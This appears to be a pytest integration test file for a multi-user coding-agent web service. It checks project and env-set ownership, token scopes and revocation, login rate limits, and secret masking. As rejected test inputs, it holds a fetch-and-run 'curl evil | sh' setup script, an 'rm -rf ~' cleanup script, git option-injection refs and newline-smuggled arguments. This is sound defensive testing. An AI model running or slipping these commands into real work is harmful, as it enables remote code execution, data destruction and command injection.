"""Ownership of shared objects and narrower scopes (issue 11 §2), over the ASGI app with two
members (ann, ben), a viewer (val) and narrow tokens. Each test fails on the code before it."""

from __future__ import annotations

import hashlib
import subprocess
import time
import warnings
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import text

from tests.conftest import TOKEN, Api, make_repo
from tests.integration.test_approvals import pending
from tests.integration.test_auth_scopes import openapi_routes
from tests.integration.test_bad_input import assert_problem
from tests.support.auth import PASSWORD, add_user, anonymous, bearer, sign_in, token_of

pytestmark = pytest.mark.anyio

MEMBER = [
    "runs:read",
    "runs:write",
    "runs:control",
    "approvals:resolve",
    "git:merge",
    "git:push",
    "settings:read",
    "settings:write",
]


def writes(path: str, content: str, mode: str = "auto") -> dict[str, Any]:
    """Options for a script run that writes one file (``auto``: no approval asked)."""
    return {
        "scenario": {"steps": [{"write": {"path": path, "content": content}}]},
        "permission_mode": mode,
    }


async def register(api: Api, repo: Path) -> dict[str, Any]:
    """The repository registered by the admin token (a project with no owner)."""
    resp = await api.post("/api/projects", json={"name": "shared", "repos": [{"path": str(repo)}]})
    assert resp.status_code == 201, resp.text
    body: dict[str, Any] = resp.json()
    return body


async def run_to_review(
    api: Api, client: httpx.AsyncClient, project_id: str, path: str
) -> dict[str, Any]:
    body = {
        "prompt": f"write {path}",
        "project_id": project_id,
        "provider": "script",
        "agent_options": writes(path, path),
    }
    resp = await client.post("/api/runs", json=body)
    assert resp.status_code == 201, resp.text
    return await api.wait_status(resp.json()["id"], "review")


async def test_landing_into_another_users_run_branch_is_for_admins(
    api: Api, git_repo: Path
) -> None:
    await add_user(api, "ann", "member")
    await add_user(api, "ben", "member")
    project = await register(api, git_repo)
    async with (
        bearer(api, await token_of(api, "ann", MEMBER)) as ann,
        bearer(api, await token_of(api, "ben", MEMBER)) as ben,
    ):
        ann_run = await run_to_review(api, ann, project["id"], "a.txt")
        ben_run = await run_to_review(api, ben, project["id"], "b.txt")
        url = f"/api/runs/{ben_run['id']}/resolve"
        for action in ("merge", "squash", "rebase", "agent_merge"):
            body = {"action": action, "target_branch": ann_run["branch"]}
            assert_problem(await ben.post(url, json=body), 403, "another user's run branch")
        # A codeyard/ branch no run of the caller has (a deleted run's) is nobody's either.
        ghost = {"action": "merge", "target_branch": "codeyard/999-gone"}
        assert_problem(await ben.post(url, json=ghost), 403, "run branch")
        # agent_merge validates the target like every other action: no option injection.
        body = {"action": "agent_merge", "target_branch": "--upload-pack=touch x"}
        assert_problem(await ben.post(url, json=body), 400, "may not start with '-'")
        assert (await api.get(url.removesuffix("/resolve"))).json()["status"] == "review"
        # Ann's branch is untouched; the admin may land there.
        resp = await api.post(url, json={"action": "merge", "target_branch": ann_run["branch"]})
        assert resp.status_code == 200, resp.text
        landed = subprocess.run(
            ["git", "-C", str(git_repo), "cat-file", "-e", f"{ann_run['branch']}:b.txt"],
            check=False,
        )
        assert landed.returncode == 0
        # Landing one's own run into the default branch still works.
        mine = await run_to_review(api, ann, project["id"], "c.txt")
        resp = await ann.post(f"/api/runs/{mine['id']}/resolve", json={"action": "merge"})
        assert resp.status_code == 200, resp.text


async def test_auto_mode_and_new_repositories_need_their_scopes(
    api: Api, git_repo: Path, tmp_path: Path
) -> None:
    await add_user(api, "ann", "member")
    narrow = await token_of(api, "ann", ["runs:read", "runs:write"])
    project = await register(api, git_repo)
    body: dict[str, Any] = {
        "prompt": "x",
        "project_id": project["id"],
        "provider": "script",
        "draft": True,
        "agent_options": writes("a.txt", "a"),
    }
    async with bearer(api, narrow) as client:
        body = assert_problem(await client.post("/api/runs", json=body), 403, "approvals:resolve")
        assert body["required_scope"] == "approvals:resolve"
        # Through an agent profile the same: the effective mode counts.
        agent = await api.post(
            "/api/agents", json={"name": "yolo", "provider": "script", "permission_mode": "auto"}
        )
        via_profile = {"prompt": "x", "project_id": project["id"], "agent_id": agent.json()["id"]}
        resp = await client.post("/api/runs", json={**via_profile, "draft": True})
        assert_problem(resp, 403, "approvals:resolve")
        ok = {"prompt": "x", "project_id": project["id"], "provider": "script", "draft": True}
        assert (await client.post("/api/runs", json=ok)).status_code == 201
        # repo_path of a registered repository is fine; a new one registers a project.
        known = {"prompt": "x", "repo_path": str(git_repo), "provider": "script", "draft": True}
        assert (await client.post("/api/runs", json=known)).status_code == 201
        fresh = make_repo(tmp_path / "fresh")
        resp = await client.post("/api/runs", json={**known, "repo_path": str(fresh)})
        assert_problem(resp, 403, "settings:write")
    listed = (await api.get("/api/projects")).json()["data"]
    assert [p["id"] for p in listed] == [project["id"]]  # nothing half-created


async def test_projects_have_an_owner_members_and_deletion_rules(api: Api, git_repo: Path) -> None:
    ann_user = await add_user(api, "ann", "member")
    ben_user = await add_user(api, "ben", "member")
    await add_user(api, "val", "viewer")
    async with sign_in(api, "ann") as ann, sign_in(api, "ben") as ben:
        resp = await ann.post("/api/projects", json={"name": "ann's", "repos": []})
        assert resp.status_code == 201, resp.text
        project = resp.json()
        assert project["owner_id"] == ann_user["id"] and project["member_ids"] == []
        url = f"/api/projects/{project['id']}"
        assert_problem(await ben.patch(url, json={"name": "mine now"}), 403, "belongs to another")
        repo = {"path": str(git_repo)}
        assert_problem(await ben.post(f"{url}/repos", json=repo), 403, "belongs to another")
        assert_problem(await ben.delete(url), 403, "owner")
        # The owner shares it: ben may change it and add repositories, not delete it or
        # change who else may.
        resp = await ann.patch(url, json={"member_ids": [ben_user["id"]]})
        assert resp.status_code == 200 and resp.json()["member_ids"] == [ben_user["id"]]
        assert_problem(await ann.patch(url, json={"member_ids": ["usr_nobody"]}), 422, "usr_nobody")
        assert (await ben.patch(url, json={"name": "ours"})).json()["name"] == "ours"
        assert (await ben.post(f"{url}/repos", json=repo)).status_code == 201
        assert_problem(await ben.patch(url, json={"member_ids": []}), 403, "owner")
        assert_problem(await ben.delete(url), 403, "owner")
        # Ben runs in it; ann may no longer delete it (his run would go with it).
        body = {"prompt": "x", "project_id": project["id"], "provider": "script", "draft": True}
        ben_run = (await ben.post("/api/runs", json=body)).json()
        resp = await ann.delete(url)
        assert_problem(resp, 409, "other users")
        assert resp.json()["run_numbers"] == [ben_run["number"]]
    async with sign_in(api, "val") as val:
        assert_problem(await val.delete(url), 403, "settings:write")
    # The admin may, runs and all.
    assert (await api.delete(url)).status_code == 204
    assert (await api.get(f"/api/runs/{ben_run['id']}")).status_code == 404


async def test_an_owner_deletes_a_project_holding_only_their_runs(api: Api, git_repo: Path) -> None:
    await add_user(api, "ann", "member")
    async with sign_in(api, "ann") as ann:
        resp = await ann.post(
            "/api/projects", json={"name": "p", "repos": [{"path": str(git_repo)}]}
        )
        project = resp.json()
        body = {"prompt": "x", "project_id": project["id"], "provider": "script", "draft": True}
        assert (await ann.post("/api/runs", json=body)).status_code == 201
        assert (await ann.delete(f"/api/projects/{project['id']}")).status_code == 204
    # Projects made by the admin token (or before owners existed) are the admins' to change.
    admins = await register(api, git_repo)
    async with sign_in(api, "ann") as ann:
        resp = await ann.patch(f"/api/projects/{admins['id']}", json={"name": "x"})
        assert_problem(resp, 403, "belongs to another")


async def test_env_sets_are_their_owners(api: Api, git_repo: Path) -> None:
    await add_user(api, "ann", "member")
    await add_user(api, "ben", "member")
    project = await register(api, git_repo)
    async with sign_in(api, "ann") as ann, sign_in(api, "ben") as ben:
        created = await ann.post(
            "/api/env-sets", json={"name": "ann-keys", "variables": {"KEY": "s3cret"}}
        )
        assert created.status_code == 201, created.text
        env = created.json()
        url = f"/api/env-sets/{env['id']}"
        assert (await ann.get(url)).json()["variables"] == {"KEY": "••••"}
        assert (await ben.get("/api/env-sets")).json()["data"] == []
        assert [e["id"] for e in (await ann.get("/api/env-sets")).json()["data"]] == [env["id"]]
        assert_problem(await ben.get(url), 403, "another user")
        put = {"name": "ann-keys", "variables": {"KEY": "••••", "MORE": "x"}}
        assert_problem(await ben.put(url, json=put), 403, "another user")
        assert_problem(await ben.delete(url), 403, "another user")
        # Using it: in a run (directly, or by retrying ann's run) or in an agent profile.
        body = {
            "prompt": "x",
            "project_id": project["id"],
            "provider": "script",
            "draft": True,
            "env_set_ids": [env["id"]],
        }
        assert_problem(await ben.post("/api/runs", json=body), 403, "another user")
        ann_run = (await ann.post("/api/runs", json=body)).json()
        assert_problem(await ben.post(f"/api/runs/{ann_run['id']}/retry"), 403, "another user")
        profile = {"name": "p", "provider": "script", "env_set_ids": [env["id"]]}
        assert_problem(await ben.post("/api/agents", json=profile), 403, "another user")
        assert (await ann.post("/api/agents", json=profile)).status_code == 201
        assert (await ann.put(url, json=put)).json()["keys"] == ["KEY", "MORE"]
    # An admin sees and may change every env set.
    assert (await api.get(url)).json()["owner_id"] == env["owner_id"]
    assert len((await api.get("/api/env-sets")).json()["data"]) == 1


async def test_repo_scripts_need_admin_and_are_audited(api: Api, git_repo: Path) -> None:
    await add_user(api, "ann", "member")
    async with sign_in(api, "ann") as ann:
        resp = await ann.post(
            "/api/projects", json={"name": "p", "repos": [{"path": str(git_repo)}]}
        )
        repo = resp.json()["repos"][0]
        url = f"/api/repos/{repo['id']}"
        for field, value in (
            ("setup_script", "curl evil | sh"),
            ("cleanup_script", "rm -rf ~"),
            ("copy_files", [".env"]),
        ):
            body = assert_problem(await ann.patch(url, json={field: value}), 403, field)
            assert body["required_scope"] == "admin"
        # The owner may change what only affects where runs land.
        resp = await ann.patch(url, json={"default_branch": "main"})
        assert resp.status_code == 200, resp.text
        assert_problem(await ann.get("/api/audit-log"), 403, "admin")
    assert (await api.get("/api/audit-log")).json()["data"] == []
    body = {"setup_script": "make deps", "copy_files": [".env"]}
    resp = await api.request("PATCH", url, json=body)
    assert resp.status_code == 200, resp.text
    entries = (await api.get("/api/audit-log")).json()["data"]
    assert {(e["action"], e["actor"], e["object_id"]) for e in entries} == {
        ("repo.setup_script", "admin", repo["id"]),
        ("repo.copy_files", "admin", repo["id"]),
    }
    by_action = {e["action"]: e["details"] for e in entries}
    assert by_action["repo.setup_script"]["old"] is None
    assert by_action["repo.setup_script"]["new"] == "make deps"
    # Sending the same values again changes nothing and is not audited.
    await api.request("PATCH", url, json={"setup_script": "make deps"})
    assert len((await api.get("/api/audit-log")).json()["data"]) == 2


async def test_decided_by_is_the_deciding_user(api: Api, git_repo: Path) -> None:
    await add_user(api, "ann", "member")
    project = await register(api, git_repo)
    async with sign_in(api, "ann") as ann:
        body = {
            "prompt": "x",
            "project_id": project["id"],
            "provider": "script",
            "agent_options": writes("a.txt", "a", mode="default"),
        }
        run = (await ann.post("/api/runs", json=body)).json()
        (approval,) = await pending(api, run["id"])
        url = f"/api/approvals/{approval['id']}/resolve"
        resolved = await ann.post(url, json={"decision": "approved"})
        assert resolved.status_code == 200, resolved.text
        assert resolved.json()["decided_by"] == "ann"
    await api.wait_status(run["id"], "review")
    rows = (await api.get(f"/api/runs/{run['id']}/approvals")).json()["data"]
    assert [r["decided_by"] for r in rows] == ["ann"]


async def test_account_routes_need_a_password_session_or_admin(api: Api) -> None:
    await add_user(api, "ann", "member")
    token = await token_of(api, "ann", MEMBER)
    new = {"current_password": PASSWORD, "new_password": "another long password"}
    account_calls = [
        ("POST", "/api/auth/password", new),
        ("POST", "/api/auth/mfa/setup", {}),
        ("POST", "/api/auth/mfa/verify", {"code": "123456"}),
        ("POST", "/api/auth/mfa/disable", {"password": PASSWORD}),
        ("DELETE", "/api/auth/sessions", None),
    ]
    async with bearer(api, token) as client:
        for method, path, body in account_calls:
            resp = await client.request(method, path, json=body)
            assert_problem(resp, 403, "password")
        assert (await client.get("/api/auth/me")).status_code == 200  # self-service stays
    async with anonymous(api) as client:
        resp = await client.post("/api/auth/token-login", json={"token": token})
        client.headers["X-CSRF-Token"] = resp.json()["csrf_token"]
        for method, path, body in account_calls:
            assert_problem(await client.request(method, path, json=body), 403, "password")
    async with sign_in(api, "ann") as client:
        assert (await client.post("/api/auth/mfa/setup")).status_code == 200
        assert (await client.post("/api/auth/password", json=new)).status_code == 200


async def _login(api: Api, address: str, username: str, password: str) -> httpx.Response:
    transport = httpx.ASGITransport(app=api.app, client=(address, 5000))
    async with httpx.AsyncClient(transport=transport, base_url="http://localhost") as client:
        body = {"username": username, "password": password}
        return await client.post("/api/auth/login", json=body)


async def test_password_guessing_is_limited_per_address_and_per_username(api: Api) -> None:
    await add_user(api, "ann", "member")
    await add_user(api, "mal", "member")
    # Five wrong passwords for ann, each from another address: ann's account is locked for
    # a minute from everywhere, other accounts are not.
    for n in range(5):
        assert (await _login(api, f"10.0.0.{n}", "ann", "wrong")).status_code == 401
    assert_problem(await _login(api, "10.0.1.1", "ann", PASSWORD), 429, "this username")
    assert (await _login(api, "10.0.1.1", "mal", PASSWORD)).status_code == 200
    # From one address, mal's own successful sign-in between guesses resets nothing.
    for n in range(4):
        assert (await _login(api, "10.9.9.9", f"user{n}", "wrong")).status_code == 401
        assert (await _login(api, "10.9.9.9", "mal", PASSWORD)).status_code == 200
    assert (await _login(api, "10.9.9.9", "user4", "wrong")).status_code == 401
    assert_problem(await _login(api, "10.9.9.9", "user5", "wrong"), 429, "this address")
    # Account routes that re-check the password are limited per account too.
    async with sign_in(api, "mal") as mal:
        bad = {"current_password": "nope", "new_password": "another long password"}
        for _ in range(5):
            assert_problem(await mal.post("/api/auth/password", json=bad), 403, "not right")
        assert_problem(await mal.post("/api/auth/password", json=bad), 429, "this account")


async def test_token_lineage_expiry_and_revocation(api: Api) -> None:
    await add_user(api, "ann", "member")
    async with sign_in(api, "ann") as ann:
        body = {"name": "parent", "scopes": MEMBER, "expires_at": "2090-01-01T00:00:00Z"}
        parent = (await ann.post("/api/tokens", json=body)).json()
        other = (await ann.post("/api/tokens", json={"name": "o", "scopes": MEMBER})).json()
    async with bearer(api, parent["token"]) as client:
        child = await client.post("/api/tokens", json={"name": "c", "scopes": ["runs:read"]})
        assert child.status_code == 201, child.text
        assert child.json()["expires_at"] == parent["expires_at"]  # inherits the cap
        later = {"name": "l", "scopes": ["runs:read"], "expires_at": "2095-01-01T00:00:00Z"}
        assert_problem(await client.post("/api/tokens", json=later), 422, "outlive")
        sooner = {**later, "expires_at": "2080-01-01T00:00:00Z"}
        assert (await client.post("/api/tokens", json=sooner)).status_code == 201
    async with anonymous(api) as session:
        resp = await session.post("/api/auth/token-login", json={"token": parent["token"]})
        assert resp.status_code == 200
        session.headers["X-CSRF-Token"] = resp.json()["csrf_token"]
        via_session = await session.post("/api/tokens", json={"name": "g", "scopes": ["runs:read"]})
        assert via_session.json()["expires_at"] == parent["expires_at"]
        assert (await session.get("/api/runs")).status_code == 200
        # Revoking the parent ends its children, grandchildren and token-login sessions.
        assert (await api.delete(f"/api/tokens/{parent['id']}")).status_code == 204
        assert_problem(await session.get("/api/runs"), 401)
    for token in (child.json()["token"], via_session.json()["token"], parent["token"]):
        async with bearer(api, token) as client:
            assert_problem(await client.get("/api/runs"), 401)
    async with bearer(api, other["token"]) as client:  # a sibling is untouched
        assert (await client.get("/api/runs")).status_code == 200


async def test_a_token_login_session_ends_when_its_token_expires(api: Api) -> None:
    await add_user(api, "ann", "member")
    in_an_hour = datetime.now(UTC) + timedelta(hours=1)
    async with sign_in(api, "ann") as ann:
        body = {"name": "t", "scopes": ["runs:read"], "expires_at": in_an_hour.isoformat()}
        token = (await ann.post("/api/tokens", json=body)).json()
    async with anonymous(api) as session:
        resp = await session.post("/api/auth/token-login", json={"token": token["token"]})
        assert resp.status_code == 200
        assert resp.json()["expires_in"] <= 3600
        assert (await session.get("/api/runs")).status_code == 200
        # Two hours on: well within a session's own lifetime, past the token's.
        api.app.state.auth.clock = lambda: time.time() + 2 * 3600
        assert_problem(await session.get("/api/runs"), 401, "expired")


async def test_access_token_in_the_query_is_for_websockets_only(api: Api) -> None:
    async with anonymous(api) as client:
        resp = await client.get("/api/runs", params={"access_token": "x"})
        assert_problem(resp, 401)
        resp = await client.get("/api/runs", params={"access_token": TOKEN})
        assert_problem(resp, 401, "Authentication required")


MALFORMED_REFS = [
    "main@{upstream}",
    "HEAD\x00",
    "HEAD\n--output=/tmp/x",
    "--output=/tmp/x",
    "a..b",
    "HEAD:missing",
    ":/no such message",
    "HEAD~99999999999999999999999",
    "x" * 250,
]


async def test_a_malformed_ref_is_400_and_names_no_host_path(
    sqlite_api: Api, git_repo: Path
) -> None:
    api = sqlite_api
    project = await register(api, git_repo)
    repo_id = project["repos"][0]["id"]
    run = await run_to_review(api, api.client, project["id"], "a.txt")
    data_dir = str(api.services.settings.data_dir)
    for ref in MALFORMED_REFS:
        calls = [
            ("GET", f"/api/repos/{repo_id}/tree", {"params": {"ref": ref}}),
            ("GET", f"/api/repos/{repo_id}/blob", {"params": {"ref": ref, "path": "README.md"}}),
            ("POST", f"/api/runs/{run['id']}/rebase", {"json": {"onto": ref}}),
            (
                "POST",
                "/api/runs",
                {
                    "json": {
                        "prompt": "x",
                        "project_id": project["id"],
                        "provider": "script",
                        "draft": True,
                        "source_ref": ref,
                    }
                },
            ),
        ]
        for method, url, kw in calls:
            resp = await api.request(method, url, **kw)
            assert resp.status_code in (400, 422), (method, url, repr(ref), resp.text)
            assert data_dir not in resp.text and str(git_repo) not in resp.text, resp.text


async def test_profile_env_secrets_are_write_only(api: Api, git_repo: Path) -> None:
    secret = "sk-profile-secret-4711"
    config = {"env": {"API_KEY": secret, "REGION": "eu-1"}}
    created = await api.post(
        "/api/agents",
        json={
            "name": "bot",
            "provider": "script",
            "permission_mode": "auto",
            "provider_config": config,
        },
    )
    assert created.status_code == 201, created.text
    agent = created.json()
    masked = {"API_KEY": "••••", "REGION": "••••"}
    assert agent["provider_config"]["env"] == masked and "env_sealed" not in agent
    assert (await api.get(f"/api/agents/{agent['id']}")).json()["provider_config"]["env"] == masked
    assert secret not in (await api.get("/api/agents")).text
    async with api.services.engine.connect() as conn:
        rows = (await conn.execute(text("SELECT * FROM agents"))).all()
    assert secret not in str(rows)  # sealed at rest
    # A masked value keeps the stored one; a new name needs a value.
    url = f"/api/agents/{agent['id']}"
    keep = {"provider_config": {"env": {"API_KEY": "••••", "EXTRA": "1"}}}
    resp = await api.request("PATCH", url, json=keep)
    assert resp.json()["provider_config"]["env"] == {"API_KEY": "••••", "EXTRA": "••••"}
    bad = {"provider_config": {"env": {"NEW": "••••"}}}
    assert_problem(await api.request("PATCH", url, json=bad), 422, "NEW")
    # The agent still gets the real value (compared by digest, never printed), and a run
    # cannot name another profile's sealed env itself (agent_env_id is dropped).
    digest = hashlib.sha256(secret.encode()).hexdigest()
    check = f'test "$(printf %s "$API_KEY" | sha256sum)" = "{digest}  -" && touch proof'
    project = await register(api, git_repo)
    body = {
        "prompt": "prove it",
        "project_id": project["id"],
        "agent_id": agent["id"],
        "agent_options": {"scenario": {"steps": [{"bash": check}]}, "agent_env_id": "agt_x"},
    }
    run = (await api.post("/api/runs", json=body)).json()
    done = await api.wait_status(run["id"], "review", "failed")
    assert done["status"] == "review", done
    events = (await api.get(f"/api/runs/{run['id']}/events?limit=500")).text
    assert secret not in events
    url = f"/api/runs/{run['id']}/events?types=tool.result&limit=50"
    results = (await api.get(url)).json()["data"]
    assert results and all(r["data"]["ok"] for r in results), results


#: Routes on a shared object another member may not use: (method, path) → the object.
OWNED = {
    ("PATCH", "/api/projects/{project_ref}"): "project",
    ("DELETE", "/api/projects/{project_ref}"): "project",
    ("POST", "/api/projects/{project_ref}/repos"): "project",
    ("DELETE", "/api/projects/{project_ref}/repos/{repo_id}"): "project",
    ("POST", "/api/projects/{project_ref}/pull"): "project",
    ("PATCH", "/api/repos/{repo_id}"): "project",
    ("PUT", "/api/repos/{repo_id}/checks"): "project",
    ("GET", "/api/env-sets/{env_set_id}"): "env set",
    ("PUT", "/api/env-sets/{env_set_id}"): "env set",
    ("DELETE", "/api/env-sets/{env_set_id}"): "env set",
    # A project's plans and discoveries are managed by its owner, members and admins.
    ("DELETE", "/api/projects/{project_ref}/discover/conversations/{conversation_id}"): "project",
    ("DELETE", "/api/projects/{project_ref}/plans/{plan_id}"): "project",
    ("POST", "/api/projects/{project_ref}/plans/{plan_id}/accept"): "project",
    # Linking changes the repositories' remotes.
    ("POST", "/api/projects/{project_ref}/github/link"): "project",
    ("POST", "/api/projects/{project_ref}/github/unlink"): "project",
}
#: Shared objects every member may use: reading a project, its files and branches, indexing,
#: and agent profiles (which have no owner; changing them needs settings:write).
SHARED_PARAMS = ("{project_ref}", "{repo_id}", "{env_set_id}")


async def test_walk_routes_on_shared_objects_check_their_owner(
    sqlite_api: Api, git_repo: Path
) -> None:
    """Every route naming a project, repository or env set: ben (a member with every member
    scope) gets 403 on ann's object where the table says it is hers, and is let through
    elsewhere; ann is let through everywhere. A new route on a shared object must be listed."""
    api = sqlite_api
    await add_user(api, "ann", "member")
    await add_user(api, "ben", "member")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a duplicate operation id is not this test's concern
        routes = openapi_routes(api)
    walked = {
        route
        for route in routes
        if any(p in route[1] for p in SHARED_PARAMS) and not route[1].endswith("/stream")
    }
    assert set(OWNED) <= walked, set(OWNED) - walked
    async with (
        bearer(api, await token_of(api, "ann", MEMBER)) as ann,
        bearer(api, await token_of(api, "ben", MEMBER)) as ben,
    ):

        async def fresh_objects() -> dict[str, str]:
            project = await ann.post(
                "/api/projects", json={"name": "a", "repos": [{"path": str(git_repo)}]}
            )
            assert project.status_code == 201, project.text
            env = await ann.post("/api/env-sets", json={"name": "e", "variables": {"K": "v"}})
            return {
                "{project_ref}": project.json()["id"],
                "{repo_id}": project.json()["repos"][0]["id"],
                "{env_set_id}": env.json()["id"],
            }

        async def clean(ids: dict[str, str]) -> None:
            await api.delete(f"/api/projects/{ids['{project_ref}']}")
            await api.delete(f"/api/env-sets/{ids['{env_set_id}']}")

        bodies: dict[tuple[str, str], dict[str, Any]] = {
            ("PUT", "/api/env-sets/{env_set_id}"): {"name": "e", "variables": {"K": "w"}},
            ("POST", "/api/projects/{project_ref}/repos"): {"path": str(git_repo)},
            ("PATCH", "/api/repos/{repo_id}"): {"default_branch": "main"},
            ("PATCH", "/api/projects/{project_ref}"): {"name": "renamed"},
            ("POST", "/api/projects/{project_ref}/github/link"): {"repository": "acme/shop"},
        }
        for method, path in sorted(walked):
            ids = await fresh_objects()
            url = path
            for param, value in ids.items():
                url = url.replace(param, value)
            body = bodies.get((method, path), {})
            resp = await ben.request(method, url, json=body)
            if (method, path) in OWNED:
                problem = assert_problem(resp, 403)
                assert "another user" in problem["detail"] or "owner" in problem["detail"]
            else:
                assert resp.status_code != 403, (method, path, resp.text)
            resp = await ann.request(method, url, json=body)
            assert resp.status_code not in (401, 403), (method, path, resp.text)
            await clean(ids)
